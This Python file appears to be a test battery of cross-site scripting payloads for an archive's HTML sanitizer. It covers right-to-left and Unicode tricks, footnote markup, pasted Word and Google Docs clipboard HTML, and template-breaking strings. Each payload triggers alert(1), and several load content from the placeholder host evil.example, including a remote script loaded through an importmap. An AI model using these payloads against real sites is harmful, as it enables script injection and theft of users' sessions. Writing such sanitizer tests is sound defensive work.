"""Attempts of our own, on what only this archive has: its scripts, its paste, its footnotes.

Each calls `alert` if it runs, as those of other batteries do, or asks for `evil.example`.
"""

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"

# Arabic around, inside and in place of the harm; signs that turn lines around or join letters.
RIGHT_TO_LEFT = [
    f"بيان{SCRIPT}مشترك",
    f"<p dir=rtl lang=ar>نص <b onmouseover=alert(1)>غامق</b>{IMAGE}</p>",
    "<p dir='rtl\" onclick=\"alert(1)'>نص</p>",
    "<a href='\u200fjavascript:alert(1)'>رابط</a>",
    "<a href='java\u200dscript:alert(1)'>رابط</a>",
    "<a href='\u202ejavascript:alert(1)\u202c'>رابط</a>",
    "<scr\u200cipt>alert(1)</scr\u200cipt>",
    "<bdo dir=rtl>>)1(trela=rorreno x=crs gmi<</bdo>",
    f"\u202e{IMAGE}\u202c عنوان",
    "<p lang=ar-x-onload=alert(1)>نص</p>",
    "＜img src=x onerror=alert(1)＞",
    "﹤script﹥alert(1)﹤/script﹥",
    "<ſcript>alert(1)</ſcript>",
    "<a href='jav\u0130ascr\u0131pt:alert(1)'>x</a>",
]

# Footnotes: the only names that stand in a text, and the numbers that scripts read out of them.
FOOTNOTES = [
    '<ol><li id="fn-1"><script>alert(1)</script>Note</li></ol>',
    "<ol><li id=\"fn-1' onclick='alert(1)\">Note</li></ol>",
    '<sup><a href="#fn-1" id="fnref-1" onclick=alert(1)>1</a></sup>',
    '<sup><a href="#fn-1&quot; onclick=&quot;alert(1)" id="fnref-1">1</a></sup>',
    '<sup><a href="#fn-javascript:alert(1)" id="fnref-1">1</a></sup>',
    '<ol><li id="fn-1"><a href="#fnref-1&quot;&gt;<script>alert(1)</script>">↩</a></li></ol>',
    '<ol><li id="content">Note</li><li id="fn-1"><img src=x onerror=alert(1)></li></ol>',
    '<a href="#sdfootnote1sym" name="sdfootnote1anc"><sup>1</sup></a>'
    '<div id="sdfootnote1"><p><a href="#sdfootnote1anc" name="sdfootnote1sym">1</a>'
    "<script>alert(1)</script></p></div>",
    '<a name="sdfootnote1anc" href="javascript:alert(1)#sdfootnote1sym"><sup>1</sup></a>'
    '<div id="sdfootnote1"><a name="sdfootnote1sym" href="javascript:alert(1)">1</a> x</div>',
    '<a href="#_ftn1&quot; onmouseover=&quot;alert(1)" name="_ftnref1">[1]</a>'
    '<div style="mso-element:footnote-list"><div style="mso-element:footnote" id="ftn1">'
    '<a href="#_ftnref1" name="_ftn1">[1]</a><img src=x onerror=alert(1)></div></div>',
    '<a href="https://example.org/x#_ftn1" name="_ftnref1">[1]</a><a href="javascript:alert(1)'
    '//#_ftnref1" name="_ftn1">[1]</a> Note',
]

# What our reading of Word, LibreOffice, mail programs and web services takes for its own.
CLIPBOARD = [
    "<!--[if !supportLists]--><img src=x onerror=alert(1)><!--[endif]-->",
    "<![if !supportLists]><script>alert(1)</script><![endif]>",
    "<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><!--[if !supportLists]--><span "
    "style='mso-list:Ignore'><script>alert(1)</script>1.</span><!--[endif]-->x</p>",
    "<p style='mso-list:l0 level99999999 lfo1'><span style='mso-list:Ignore'>a.<img src=x "
    "onerror=alert(1)></span>x</p>",
    "<p style=\"mso-list:l0 level1 lfo1;background:url('//evil.example/x')\">x</p>",
    "<!--[if gte mso 9]><xml><o:p><script>alert(1)</script></o:p></xml><![endif]-->",
    "<o:p onclick=alert(1)><v:shape style='behavior:url(#default#VML)' onload=alert(1)></o:p>",
    "<!--StartFragment--><svg onload=alert(1)><!--EndFragment-->",
    "<!--StartFragment--><!--EndFragment--!><img src=x onerror=alert(1)>",
    "Version:1.0\r\nStartHTML:00\r\n<html><body onload=alert(1)>x</body></html>",
    "<span style='display:none'><script>alert(1)</script></span>",
    "<a href='https://www.google.com/url?q=javascript:alert(1)'>x</a>",
    "<a href='https://www.google.com/url?q=java%09script%3Aalert(1)'>x</a>",
    "<a href='https://www.google.com/url?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E'>x</a>",
    "<a href='https://eur01.safelinks.protection.outlook.com/?url=data%3Atext%2Fhtml%2C"
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E'>x</a>",
    "<a href='https://l.facebook.com/l.php?u=vbscript%3Aalert(1)'>x</a>",
    "<b style='font-weight:normal' id='docs-internal-guid-1'><script>alert(1)</script></b>",
    "<div data-pm-slice='0 0 []' onclick=alert(1)><img src=x onerror=alert(1)></div>",
    '<p data-pm-slice=\'1 1 ["table",{"onclick":"alert(1)"}]\'>x</p>',
    '<table><tr><th scope="row&quot; onclick=&quot;alert(1)">x<td colspan="1 onload=alert(1)">y',
    "<ol start='1 onclick=alert(1)' type='\"><script>alert(1)</script>'><li>x</ol>",
    "<pre>\n\n<script>alert(1)</script></pre>",
    "<plaintext><a href=javascript:alert(1)>x",
    "words &lt;img src=x onerror=alert(1)&gt; <em>more</em>\n\nwords <b onclick=alert(1)>b</b>",
    "<em><img src=x onerror=alert(1)></em> one line without a block",
    "<a href=' &#1; /\\evil.example'>x</a>",
    "<a href='mailto:x@example.org?body=<script>alert(1)</script>'>x</a>",
    "<a href='/admin/logout/' onfocus=alert(1) autofocus>x</a>",
    "<form action=/admin/logout/ method=post><button autofocus onfocus=alert(1)>x</button></form>",
    "<base href='javascript:/a/'><a href='alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=prefetch href=//evil.example/x><link rel=dns-prefetch href=//evil.example>",
    '<script type=importmap>{"imports":{"./schema.js":"//evil.example/x.js"}}</script>',
    "<template id=writing-tools data-paste=//evil.example/><script>alert(1)</script></template>",
    "<input name=csrfmiddlewaretoken value=x><p id=keeping data-address=//evil.example/>x</p>",
    "<div id=remarks data-url=javascript:alert(1)></div><div id=import-state data-running></div>",
]

# Plain words that end whatever template or script they might stand in.
WORDS = [
    f'"{SCRIPT}',
    f"'>{IMAGE}",
    f"--></title></textarea></style></script>{IMAGE}",
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)" x="',
    "`${alert(1)}`",
    "{{ 7|add:7 }}{% debug %}{{constructor.constructor('alert(1)')()}}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script><![CDATA[",
    "javascript:alert(1)",
    "https://example.org/\"onmouseover=alert(1)//'><script>alert(1)</script>",
    "https://example.org/?javascript:alert(1); javascript:alert(1) (remark)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    '=HYPERLINK("javascript:alert(1)","x")<svg onload=alert(1)>',
]

ALL = [*RIGHT_TO_LEFT, *FOOTNOTES, *CLIPBOARD, *WORDS]
